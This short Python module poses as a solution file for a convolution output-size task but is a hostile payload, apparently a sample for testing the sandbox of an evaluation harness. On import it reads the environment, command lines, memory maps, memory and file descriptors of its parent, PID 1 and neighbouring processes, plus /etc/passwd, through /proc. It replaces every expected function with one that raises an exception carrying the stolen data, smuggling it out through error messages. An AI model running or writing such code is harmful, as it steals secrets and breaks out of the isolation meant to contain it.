# topic: output_size
"""Reads memory, environment, arguments and descriptors of its parent and of every other process through /proc."""

import contextlib
import os

FOUND = []
for pid in (os.getppid(), "self", "thread-self", 1, *range(os.getppid() - 5, os.getppid() + 5)):
    for file in ("environ", "cmdline", "maps", "mem", "fd/3", "task", "root/etc/passwd", "cwd/etc/passwd"):
        with contextlib.suppress(OSError):
            FOUND.append((pid, file, open(f"/proc/{pid}/{file}", "rb").read(200)))  # noqa: PTH123, SIM115
    with contextlib.suppress(OSError):
        FOUND.append(os.listdir(f"/proc/{pid}/fd"))  # noqa: PTH208


def attack(*_, **__):
    raise ValueError(f"SMUG{'GLED'} {FOUND}") if FOUND else RuntimeError("nothing there")


conv_out = tf_out = same_pads_tf = conv2d_out_shape = pool2d_out_shape = attack
unused_pixels = trace = receptive_field = inputs_giving = configs = attack
